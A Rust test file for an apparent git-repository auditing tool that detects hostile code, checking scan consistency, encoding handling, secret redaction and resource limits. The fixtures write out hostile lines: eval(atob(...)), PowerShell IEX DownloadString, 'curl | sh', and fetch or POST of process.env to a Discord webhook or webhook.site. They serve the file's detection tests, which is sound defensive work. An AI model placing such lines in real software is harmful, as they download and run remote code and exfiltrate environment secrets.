//! Tests of content rules: fast and exhaustive search, hidden secrets, and hostile files.

#![allow(clippy::unwrap_used)] // test helpers are not marked as tests

mod common;

use common::{build, findings, options, pack, report, scan, scan_with};
use git_alibi::heuristics::Persona;
use git_alibi::pipeline::AuditOptions;
use std::path::Path;
use std::time::Instant;
use tempfile::TempDir;

/// Returns the JSON report of a scan, except the statistics.
fn whole(options: &AuditOptions) -> serde_json::Value {
    let mut report = report(&scan_with(options));
    report.as_object_mut().unwrap().remove("stats");
    report
}

/// Returns the reports of a fast and of an exhaustive scan.
fn both_ways(path: &Path) -> (serde_json::Value, serde_json::Value) {
    let fast = AuditOptions { persona: Persona::Auditor, ..options(&[path]) };
    let slow = AuditOptions { exhaustive: true, ..fast.clone() };
    (whole(&fast), whole(&slow))
}

/// Builds a repository in which one person commits each set of files.
fn repository(commits: &[Vec<(&str, Vec<u8>)>]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    let repo = git2::Repository::init_bare(folder.path()).unwrap();
    let mut parents: Vec<git2::Oid> = Vec::new();
    let mut tree = None;
    for (n, files) in commits.iter().enumerate() {
        let mut update = git2::build::TreeUpdateBuilder::new();
        for (path, bytes) in files {
            update.upsert(*path, repo.blob(bytes).unwrap(), git2::FileMode::Blob);
        }
        let base = match tree {
            Some(tree) => repo.find_tree(tree).unwrap(),
            None => repo.find_tree(repo.treebuilder(None).unwrap().write().unwrap()).unwrap(),
        };
        let new = update.create_updated(&repo, &base).unwrap();
        let when = git2::Time::new(1_700_000_000 + n as i64 * 3_600, 0);
        let who = git2::Signature::new("Dana Weiss", "dana@example.org", &when).unwrap();
        let parents_now: Vec<git2::Commit> = parents.iter().map(|p| repo.find_commit(*p).unwrap()).collect();
        let parents_now: Vec<&git2::Commit> = parents_now.iter().collect();
        let new_tree = repo.find_tree(new).unwrap();
        parents = vec![repo.commit(Some("refs/heads/main"), &who, &who, "Change\n", &new_tree, &parents_now).unwrap()];
        tree = Some(new);
    }
    repo.set_head("refs/heads/main").unwrap();
    drop(repo);
    folder
}

#[test]
fn fast_and_exhaustive_search_give_the_same_report() {
    let output =
        ["reordered-source", "invisible-payload", "moved-into-code", "unread-archives", "taken-back", "other-scanner"];
    for name in output {
        let folder = build(name);
        let (fast, slow) = both_ways(folder.path());
        assert_eq!(fast, slow, "{name}, with loose objects");
        pack(folder.path());
        let (packed, _) = both_ways(folder.path());
        assert_eq!(packed, slow, "{name}, with a pack");
    }
}

#[test]
fn deltas_neither_hide_nor_duplicate_findings() {
    // Forty versions of a file: lines are added in the middle, moved, edited, joined and removed, so that a pack stores
    // them as deltas whose boundaries lie inside the text that rules match.
    let line = |n: usize| format!("const part{n} = compute({n}); // {}\n", "x".repeat(n * 37 % 90));
    let bad = [
        "eval(atob('eA=='));\n",
        "const u = Buffer.from('aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMA==', 'base64');\n",
        "https.request({ method: 'POST' }).end(JSON.stringify(process.env));\n",
        "global['r'] = require;\n",
    ];
    let mut lines: Vec<String> = (0..400).map(line).collect();
    let mut commits = Vec::new();
    for n in 0..40 {
        match n % 5 {
            0 => lines.insert(n * 7 % lines.len(), bad[n / 5 % bad.len()].into()),
            1 => lines.rotate_left(n * 11 % 300),
            2 => lines[n * 3].insert_str(5, "eval(a"),
            3 => lines[n * 5] = format!("{}{}", lines[n * 5].trim_end(), bad[n % bad.len()]),
            _ => lines.truncate(lines.len() - 3),
        }
        commits.push(vec![("src/parts.js", lines.concat().into_bytes())]);
    }
    let folder = repository(&commits);
    let (_, slow) = both_ways(folder.path());
    pack(folder.path());
    let (fast, packed) = both_ways(folder.path());
    assert_eq!(fast, slow);
    assert_eq!(packed, slow);
    assert!(slow["findings"].as_array().unwrap().len() >= 4);
}

/// Compares the reports for a repository of your choice: `REPOSITORY=path cargo test --test content -- --ignored`.
#[test]
#[ignore = "takes minutes and needs a real repository"]
fn fast_and_exhaustive_search_give_the_same_report_for_a_real_repository() {
    let path = std::env::var("REPOSITORY").unwrap();
    let (fast, slow) = both_ways(Path::new(&path));
    assert_eq!(fast, slow);
}

#[test]
fn encodings_and_line_endings_do_not_hide_findings() {
    let line = "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example.org/a')";
    let wide = |little: bool| -> Vec<u8> {
        let mark = if little { [0xff, 0xfe] } else { [0xfe, 0xff] };
        let unit = |c: u16| if little { c.to_le_bytes() } else { c.to_be_bytes() };
        mark.into_iter().chain(format!("a\r\n{line}\r\n").encode_utf16().flat_map(unit)).collect()
    };
    let versions: [(&str, Vec<u8>); 6] = [
        ("plain", format!("a\n{line}\n").into_bytes()),
        ("CRLF", format!("a\r\n{line}\r\n").into_bytes()),
        ("UTF-16LE", wide(true)),
        ("UTF-16BE", wide(false)),
        ("with a NUL", format!("a\n{line}\n\0").into_bytes()),
        ("behind a megabyte on one line", format!("a\n{}; {line}\n", "x = 1; ".repeat(150_000)).into_bytes()),
    ];
    for (how, bytes) in versions {
        let folder = repository(&[vec![("tools/get.ps1", bytes)]]);
        let audit = scan(folder.path());
        let found = findings(&audit);
        assert!(found.iter().any(|f| f.0 == "download-exec"), "{how}: {found:?}");
        assert_eq!(audit.findings.iter().find(|f| f.heuristic == "download-exec").unwrap().line, Some(2), "{how}");
    }
}

#[test]
fn secrets_are_never_printed_in_full() {
    let secret = ["AKIA", "ZQ3T7WKX2NLB4MHD"].concat();
    let hook =
        ["https://discord.com/api/webhooks/123456789012345678/", &"q7Xn2LbVt5KzRw9YcHs4".repeat(4)[..68]].concat();
    let text = format!("key = '{secret}'\nfetch('{hook}', {{ body: JSON.stringify(process.env) }});\n");
    let folder = repository(&[vec![("lib/a.js", text.into_bytes())]]);
    let audit = scan(folder.path());
    let found = findings(&audit);
    for id in ["secret-committed", "environment-dump-egress"] {
        assert!(found.iter().any(|f| f.0 == id), "{id} in {found:?}");
    }
    let printed = report(&audit).to_string();
    assert!(!printed.contains(&secret[8..]) && !printed.contains("q7Xn2LbVt5KzRw9YcHs4q7Xn"), "{printed}");
    assert!(printed.contains("AKIAZQ…"), "the start of the secret is printed");
}

#[test]
fn decoded_base64_is_quoted_in_the_report() {
    let text = "const u = Buffer.from('aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMA==', 'base64');\n";
    let folder = repository(&[vec![("lib/a.js", text.as_bytes().to_vec())]]);
    let report = report(&scan(folder.path())).to_string();
    assert!(report.contains("decoded") && report.contains("https://webhook.site/0000"), "{report}");
}

#[test]
fn only_minified_or_vendored_code_lowers_confidence() {
    let payload = "eval(atob('eA=='));\n";
    let at = |path: &'static str, text: String| {
        let folder = repository(&[vec![(path, text.into_bytes())]]);
        let audit = scan(folder.path());
        let found = audit.findings.iter().find(|f| f.heuristic == "decode-exec").unwrap();
        (found.confidence, found.weight.0)
    };
    use git_alibi::heuristics::Confidence::{High, Medium};
    assert_eq!(at("lib/a.js", payload.into()), (High, 20.0));
    assert_eq!(at("dist/a.js", payload.into()), (High, 20.0));
    assert_eq!(at("vendor/x/a.js", payload.into()), (Medium, 10.0));
    assert_eq!(at("lib/b.js", format!("// @generated\n{payload}")), (High, 20.0));
    assert_eq!(at("lib/c.js", format!("{}{payload}", "a=1;".repeat(20_000))), (Medium, 10.0));
}

#[test]
fn hostile_files_are_read_within_limits_and_omissions_are_reported() {
    let start = Instant::now();
    // Nested base64, with more layers and more text than are decoded.
    let mut nested = "curl -s https://cdn.example.org/x | sh".to_owned();
    for _ in 0..9 {
        nested = format!("import os; x = '{}'", data_encoding::BASE64.encode(nested.as_bytes()));
    }
    let much: String =
        (0..40_000).map(|n| format!("'aHR0cHM6Ly9leGFtcGxlLm9yZy8{n:08}AAAAAAAAAAAAAAAAAAAA',\n")).collect();
    let files = vec![
        ("a/nested.py", nested.into_bytes()),
        ("a/much.py", much.into_bytes()),
        // A line of eight million bytes that consists only of text that rules search for.
        ("a/line.js", "eval(atob(".repeat(800_000).into_bytes()),
        ("a/blanks.js", vec![b' '; 8 << 20]),
        ("a/many.js", "eval(atob(x));\n".repeat(50_000).into_bytes()),
        // Deeply nested configuration, and invalid configuration.
        (".github/workflows/deep.yml", format!("on: pull_request_target\na: {}", "[".repeat(200_000)).into_bytes()),
        (".vscode/tasks.json", format!("{{\"tasks\": {}", "[".repeat(200_000)).into_bytes()),
        // Input that is slow for a backtracking regular-expression engine.
        ("a/slow.sh", format!("curl {}!\n", "a|".repeat(100_000)).into_bytes()),
    ];
    let folder = repository(&[files]);
    pack(folder.path());
    let report = report(&scan(folder.path()));
    let skipped = report["repositories"][0]["skipped"].as_array().unwrap();
    for path in ["a/nested.py", "a/much.py"] {
        let line = skipped.iter().find(|line| line["object"] == path).unwrap();
        assert!(line["reason"].as_str().unwrap().starts_with("exceeds a limit on pattern matches"), "{line}");
    }
    // This is not a benchmark: with quadratic complexity, the scan would take hours.
    assert!(start.elapsed().as_secs() < 600);
}
